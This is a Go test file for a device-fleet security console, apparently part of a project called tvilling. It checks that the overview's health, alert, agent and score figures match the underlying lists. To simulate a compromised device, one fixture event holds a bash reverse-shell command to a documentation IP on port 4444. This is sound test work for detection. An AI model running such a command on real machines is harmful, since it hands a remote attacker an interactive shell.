package hub_test

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/tvilling/tvilling"
	"github.com/tvilling/tvilling/internal/app/apptest"
	"github.com/tvilling/tvilling/internal/client"
	mqttdevice "github.com/tvilling/tvilling/internal/device"
	"github.com/tvilling/tvilling/internal/security/fleet"
)

// TestOverviewNumbers: each figure of the overview is the number of what its
// list has.
func TestOverviewNumbers(t *testing.T) {
	t.Parallel()
	h := apptest.Start(t, nil)
	c := h.Client()
	for n := range 7 {
		h.Register(c, tvilling.DeviceID(fmt.Sprintf("d%d", n)))
	}
	// d0 is attacked, d1 and d2 are weak, d3 is well; the others are not heard.
	shell := `[{"Executable":"/bin/bash","ProcessId":7,"ParentProcessId":1,"UserId":"0","UserName":"root","CommandLine":"bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\""}]`
	ports := `[{"Protocol":"tcp","LocalAddress":"0.0.0.0","LocalPort":"23","RemoteAddress":"0.0.0.0","RemotePort":"*"}]`
	sendSecurity(t, h, c, "d0", securityEvent(1, "ProcessCreate", shell))
	sendSecurity(t, h, c, "d1", securityEvent(2, "ListeningPorts", ports))
	sendSecurity(t, h, c, "d2", securityEvent(3, "ListeningPorts", ports))
	sendSecurity(t, h, c, "d3", securityEvent(4, "ListeningPorts", `[]`))
	device, err := mqttdevice.Dial(t.Context(), mqttdevice.Options{Addr: h.MQTT(), TLS: h.TLS(), HostName: "localhost", ID: tvilling.Device("d3"), Key: keyOf(t, c, tvilling.Device("d3")), Clean: true})
	if err != nil {
		t.Fatal(err)
	}
	defer device.Close()

	var o *client.SecurityOverview
	eventually(t, "the figures follow", func() (bool, any) {
		if o, err = c.SecurityOverview(t.Context()); err != nil {
			t.Fatal(err)
		}
		return o.Devices["unhealthy"] == 1 && o.Devices["atRisk"] == 2 && o.Devices["healthy"] == 1 && *o.Traffic.Connected == 1, o
	})
	if len(o.Problems) > 0 || *o.Registered != 7 {
		t.Errorf("%d registered, problems %v", *o.Registered, o.Problems)
	}
	figures := map[string]int64{
		"unhealthy": o.Devices["unhealthy"], "atRisk": o.Devices["atRisk"], "healthy": o.Devices["healthy"], "unknown": o.Devices["unknown"],
		"affected": o.Affected.All, "connected": *o.Traffic.Connected,
		"inSync": o.Agents.InSync, "differs": o.Agents.Differs, "notReported": o.Agents.NotReported, "notKnown": o.Agents.NotKnown,
		"silent": o.Agents.Silent, "never": o.Agents.Never,
	}
	for name, condition := range fleet.Conditions() {
		if n := countDevices(t, c, condition); n != figures[name] {
			t.Errorf("%s: the figure is %d, the list has %d: %s", name, figures[name], n, condition)
		}
	}
	if o.Agents.Never != 3 || o.Score == nil || o.Score.Devices != 4 {
		t.Errorf("agents %+v, score %+v", o.Agents, o.Score)
	}
	if got := o.Score.Value - 100 - o.Score.Alerts - o.Score.Recommendations - o.Score.Agent; got > 0.01 || got < -0.01 {
		t.Errorf("the parts do not make the score: %+v", o.Score)
	}
	checkOverviewLists(t, c, o)
}

// checkOverviewLists compares counts of alerts and recommendations with their lists.
func checkOverviewLists(t *testing.T, c *client.Client, o *client.SecurityOverview) {
	t.Helper()
	alerts := func(f client.AlertFilter) (n int64) {
		for _, err := range c.Alerts(t.Context(), f, client.Paging{}) {
			if err != nil {
				t.Fatal(err)
			}
			n++
		}
		return n
	}
	for severity, n := range o.Alerts {
		if got := alerts(client.AlertFilter{Status: []string{"open"}, Severity: []string{severity}}); got != n {
			t.Errorf("%s: %d alerts, the list has %d", severity, n, got)
		}
	}
	for _, typ := range o.TopTypes {
		if got := alerts(client.AlertFilter{Status: []string{"open"}, Type: typ.Type}); got != typ.Count || typ.Title == typ.Type {
			t.Errorf("%+v: the list has %d", typ, got)
		}
	}
	if len(o.Raised) == 0 {
		t.Error("no alert was raised in any hour")
	}
	for _, hour := range o.Raised {
		span := client.AlertFilter{RaisedFrom: hour.Hour, RaisedTo: hour.Hour.Add(time.Hour)}
		if got := alerts(span); got != hour.High+hour.Medium+hour.Low+hour.Informational {
			t.Errorf("%+v: the list has %d", hour, got)
		}
	}
	for _, typ := range o.TopRecommendations {
		n := int64(0)
		for _, err := range c.Recommendations(t.Context(), client.RecommendationFilter{Type: typ.Type, State: "active"}, client.Paging{}) {
			if err != nil {
				t.Fatal(err)
			}
			n++
		}
		if n != typ.Count {
			t.Errorf("%+v: the list has %d", typ, n)
		}
	}
}

// countDevices counts the devices of a list of the console.
func countDevices(t *testing.T, c *client.Client, condition string) (n int64) {
	t.Helper()
	text := "SELECT COUNT() AS n FROM devices JOIN devices.modules WHERE modules.moduleId = '" + string(tvilling.SecurityModule) + "' AND (" + condition + ")"
	for row, err := range c.Query(t.Context(), text, 0) {
		if err != nil {
			t.Fatalf("%s: %v", text, err)
		}
		var v struct{ N int64 }
		if err := json.Unmarshal(row, &v); err != nil {
			t.Fatal(err)
		}
		n += v.N
	}
	return n
}
